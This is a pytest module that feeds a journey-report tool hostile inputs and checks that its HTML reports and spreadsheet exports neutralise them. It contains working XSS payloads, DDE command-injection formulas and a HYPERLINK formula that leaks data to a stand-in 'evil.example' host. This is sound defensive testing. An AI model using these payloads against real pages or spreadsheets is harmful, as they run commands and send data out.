"""A hostile world end to end: payloads in every field a user controls, through the real report.

The e-commerce sample world, cut to 300 customers, with script, markup and spreadsheet-formula
payloads in the journey's name, a stage name, a persona name, customer attributes, event names
and feedback text, and personal data in feedback. The report notebook runs on it (``jmtools
report``), the map is written as HTML and as a workbook. Then:

- Chromium, with every non-file request aborted, opens the reports: no payload runs (each would set
  ``window.__pwned``), no page error, no request leaves, the payloads read as text;
- openpyxl opens the workbook: no cell is a formula;
- the personal data in feedback is not in the report;
- the backlog of that world (the pipeline's, with formula payloads in opportunity titles and
  owners) exported to CSV and Excel: no formula cell in the workbook, no cell of the CSV a
  spreadsheet would run (each payload starts with the ``'`` of
  :mod:`jmtools.core.spreadsheet`, and reads back exactly with ``csv_untext``).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

CHROMIUM = "/usr/bin/chromium"
ROOT = Path(__file__).resolve().parents[1]
pytestmark = [pytest.mark.slow, pytest.mark.browser,
              pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="needs Debian chromium")]

JOURNEY_NAME = "Shoes <script>window.__pwned = 'journey'</script>"
STAGE = "Decision <img src=x onerror=window.__pwned=1>"
PERSONA = "=cmd|'/C calc'!A0 <b onmouseover=window.__pwned=2>Ben</b>"
EVENT = "<svg onload=window.__pwned=3>"
FEEDBACK = ["<script>window.__pwned = 4</script> the fee appeared at the end",
            "=HYPERLINK(\"http://evil.example/?leak\",\"click\") delivery was late",
            "@SUM(1+1)*cmd|' /C calc'!A0 terrible checkout",
            "call me on 07700 900123 or mail jane.doe@example.com, card 4111 1111 1111 1111"]
PII = ["jane.doe@example.com", "4111 1111 1111 1111"]
#: Opportunity titles and owners of the journey → the formula payloads that replace them.
BACKLOG_PAYLOADS = {"Show the delivery fee on the product page and in the cart":
                    '=HYPERLINK("http://evil.example/?leak","Show fees")',
                    "Lower the free-delivery threshold to 75 EUR for app orders": "@SUM(1+1)*cmd|' /C calc'!A0",
                    "Checkout squad": "+cmd|' /C calc'!A0", "Commercial team": "-2+3 team",
                    }


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory):
    """The hostile data folder (no command run yet)."""
    import table_subsets

    if not table_subsets.available():
        pytest.skip("sample world ecommerce not generated")
    base = tmp_path_factory.mktemp("hostile")
    data = table_subsets.make_subset("events", base / "data")
    keep = set(pd.read_parquet(data / "events.parquet")["customer_id"])
    src = ROOT / "data" / "ecommerce"
    for name in ("customers.csv", "surveys.csv", "feedback.csv", "orders.csv"):
        frame = pd.read_csv(src / name, dtype={"customer_id": str})
        frame = frame[frame["customer_id"].isin(keep)].copy()
        if "stage" in frame:
            frame["stage"] = frame["stage"].replace({"Decision": STAGE})
        if name == "feedback.csv":
            frame.iloc[:len(FEEDBACK), frame.columns.get_loc("text")] = FEEDBACK
        if name == "customers.csv":
            frame.iloc[:3, frame.columns.get_loc("region") if "region" in frame else 1] = \
                ["<script>window.__pwned=5</script>", "=1+1", "+SUM(A1)"]
        frame.to_csv(data / name, index=False)
    events = pd.read_parquet(data / "events.parquet")
    extra = events.head(20).assign(event=EVENT)
    pd.concat([events, extra], ignore_index=True).to_parquet(data / "events.parquet")
    _rename(data / "journey.yaml", {"Running shoes online": JOURNEY_NAME, "Budget Ben": PERSONA,
                                    "Decision": STAGE, **BACKLOG_PAYLOADS})
    return data


@pytest.fixture(scope="module")
def hostile(hostile_data):
    """The reports, map and workbook written from the hostile data folder (their folder)."""
    data, base = hostile_data, hostile_data.parent
    jm = str(Path(sys.executable).with_name("jmtools"))
    out = base / "out"
    out.mkdir()
    runs = {
        "report": [jm, "report", str(ROOT / "notebooks" / "00_journey_report.ipynb"), "-p", "data_dir",
                   str(data), "-p", "persona", PERSONA, "-o", str(out / "report.html")],
        "map": [jm, "map", str(data / "journey.yaml"), "--data", str(data), "-o", str(out / "map.html")],
        "workbook": [jm, "map", str(data / "journey.yaml"), "-o", str(out / "map.xlsx")],
    }
    for what, cmd in runs.items():
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=900, cwd=base)
        assert done.returncode == 0, f"{what}: {done.stdout[-1500:]}\n{done.stderr[-3000:]}"
        assert "Traceback" not in done.stderr
    return out


def _rename(path: Path, names: dict) -> None:
    """Replace whole string values and keys of a YAML file (the YAML writer quotes them)."""
    from ruamel.yaml import YAML

    yaml = YAML(typ="rt")
    doc = yaml.load(path.read_text(encoding="utf-8"))

    def walk(node):
        if isinstance(node, dict):
            for key in list(node):
                value = walk(node[key])
                if key in names:
                    node.insert(list(node).index(key), names[key], value)
                    del node[key]
                else:
                    node[key] = value
            return node
        if isinstance(node, list):
            return [walk(v) for v in node] if not hasattr(node, "fa") else \
                type(node)(walk(v) for v in node)
        return names.get(node, node) if isinstance(node, str) else node

    walk(doc)
    with open(path, "w", encoding="utf-8") as handle:
        yaml.dump(doc, handle)


def _open(path: Path):
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--headless", "--no-sandbox"])
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        outside, errors = [], []
        context.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file:")
                      else (outside.append(r.request.url), r.abort()))
        page = context.new_page()
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(path.as_uri())
        page.wait_for_load_state("load")
        page.wait_for_timeout(1500)
        for element in page.locator("b, img, svg").all()[:200]:   # hovering fires onmouseover payloads
            try:
                element.hover(timeout=200)
            except Exception:  # noqa: BLE001 — hidden or detached elements cannot be hovered
                pass
        state = {"pwned": page.evaluate("window.__pwned"), "text": page.inner_text("body"),
                 "handlers": page.evaluate("""[...document.querySelectorAll('*')].filter(e =>
                     [...e.attributes].some(a => a.name.startsWith('on'))).length"""),
                 "outside": outside, "errors": errors}
        browser.close()
    return state


@pytest.mark.parametrize("name", ["report.html", "map.html"])
def test_no_payload_runs_and_every_payload_reads_as_text(hostile, name):
    state = _open(hostile / name)
    assert state["pwned"] is None
    assert state["handlers"] == 0 and state["outside"] == [] and state["errors"] == []
    if name == "report.html":
        assert "<img src=x onerror=window.__pwned=1>" in state["text"]      # the stage, as text
        assert "<b onmouseover=window.__pwned=2>Ben</b>" in state["text"]   # the persona, as text


def test_the_workbook_holds_no_formula(hostile):
    from openpyxl import load_workbook

    wb = load_workbook(hostile / "map.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=cmd") for c in cells)  # kept as text


def test_personal_data_in_feedback_stays_out_of_the_report(hostile):
    html = (hostile / "report.html").read_text(encoding="utf-8")
    for value in PII:
        assert value not in html


def test_the_backlog_exports_hold_no_live_formula(hostile_data, tmp_path):
    import csv

    from openpyxl import load_workbook

    from jmtools import pipeline
    from jmtools.analyses.priorities import export_backlog
    from jmtools.core.spreadsheet import csv_untext, is_formula_like

    backlog = pipeline.run(hostile_data).backlog
    payloads = set(BACKLOG_PAYLOADS.values())
    assert payloads <= set(backlog["title"]) | set(backlog["owner"])   # the payloads reach it
    written = export_backlog(backlog, tmp_path / "backlog.csv")
    with open(written, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if is_formula_like(c)]     # a spreadsheet runs none of them
    assert payloads <= {csv_untext(c) for c in cells}       # each reads back exactly
    assert {"'" + p for p in payloads} <= set(cells)        # escaped with one leading quote
    wb = load_workbook(export_backlog(backlog, tmp_path / "backlog.xlsx"))
    xlsx = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in xlsx if c.data_type == "f"]
    shown = {c.value for c in xlsx if isinstance(c.value, str)}
    assert payloads <= shown                                # kept as text, unchanged
    assert all(c.quotePrefix for c in xlsx if c.value in payloads)
